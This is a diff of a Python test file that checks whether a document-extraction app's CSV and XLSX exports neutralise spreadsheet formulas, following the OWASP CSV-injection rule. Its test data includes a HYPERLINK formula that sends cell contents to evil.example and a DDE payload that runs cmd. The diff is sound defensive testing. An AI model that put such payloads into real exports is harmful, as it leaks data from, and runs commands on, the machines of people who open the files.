@@ -80,7 +80,11 @@ def test_csv_round_trip(table: tuple[AppContext, int, ExtractionTable], tmp_path
         for i, f in enumerate(t.fields):
             start = 2 + i * len(CSV_PARTS)
             back[(row[1], f.name)] = tuple(row[start : start + len(CSV_PARTS)])
-    assert back == _expected(t)
+    # Cells a spreadsheet would run as formulas carry a leading apostrophe (see the test below); the rest is as stored.
+    expected = {k: tuple("'" + v if v[:1] in ("=", "+", "-", "@", "\t", "\r") else v for v in parts)
+                for k, parts in _expected(t).items()}  # fmt: skip
+    assert back == expected
+    assert any(v.startswith("'=HYPERLINK(") for parts in back.values() for v in parts)
 
 
 def test_xlsx_round_trip(table: tuple[AppContext, int, ExtractionTable], tmp_path: Path) -> None:
@@ -195,3 +199,55 @@ def test_write_new_refuses_a_race(tmp_path: Path) -> None:
     with pytest.raises(FileExists):
         write_new(target, b"two")
     assert target.read_bytes() == b"one" and [p.name for p in tmp_path.iterdir()] == ["x.bin"]
+
+
+FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1, "open")', "+44 20 7946 0000", "-2% growth",
+            "@SUM(A1:A9)", "\t=cmd|' /C calc'!A0", "\r=1+1"]  # fmt: skip
+HARMLESS = ["Delaware", "a=b", "2 + 2", "'already quoted", "  =spaced"]
+
+
+def test_spreadsheet_formulas_from_documents_never_run(starter_home: Path, tmp_path: Path) -> None:
+    """OWASP's CSV-injection rule: a cell starting with = + - @ tab or carriage return is marked as text
+    (CSV: a leading apostrophe; XLSX: stored as text with Excel's quote-prefix mark, value unchanged)."""
+    from openpyxl import load_workbook
+
+    from app.context import open_app
+    from tests.fixtures.pdfs import make_contract_pdf
+
+    ctx = open_app()
+    try:
+        doc = ctx.library.add(make_contract_pdf(tmp_path / "a.pdf")).document.id
+        tpl = TemplateStore.for_config(ctx.paths.config_dir).get("nda")
+        service = ExtractionService(ctx)
+        run = service.start_run(tpl, [doc])
+        values = FORMULAS + HARMLESS
+        fields = [f.key for f in tpl.fields][: len(values)]
+        names = [f.name for f in tpl.fields][: len(values)]
+        cells = [
+            Cell(doc, key, True, value, value, "1", 1, "1", None, "exact", 1.0)
+            for key, value in zip(fields, values, strict=True)
+        ]
+        service._store(run, cells, {}, STATS)
+        exporter = Exporter(ctx)
+        with exporter.table(run, tmp_path / "t.csv").path.open(encoding="utf-8-sig", newline="") as handle:
+            rows = list(csv.reader(handle))  # newline="": a carriage return inside a cell stays one
+        book = load_workbook(exporter.table(run, tmp_path / "t.xlsx").path)
+    finally:
+        ctx.close()
+    by_name = dict(zip(rows[0], rows[1], strict=True))
+    for value, name in zip(values, names, strict=True):
+        written = by_name[name]
+        assert by_name[f"{name} | quote"] == written  # the quote column is neutralised the same way
+        if value in FORMULAS:
+            assert written == "'" + value
+        else:
+            assert written == value
+    sheet = book["Table"]
+    header = [c.value for c in sheet[1]]
+    for value, name in zip(values, names, strict=True):
+        cell = sheet.cell(2, header.index(name) + 1)
+        assert cell.value == value.replace("\r", "\n") and cell.data_type == "s"  # XML reads a CR back as LF
+        assert bool(cell.quotePrefix) is (value in FORMULAS)
+    evidence = book["Evidence"]
+    marked = [c.value for row in evidence.iter_rows(min_row=2) for c in row if c.quotePrefix]
+    assert set(marked) == {v.replace("\r", "\n") for v in FORMULAS}  # value and quote columns
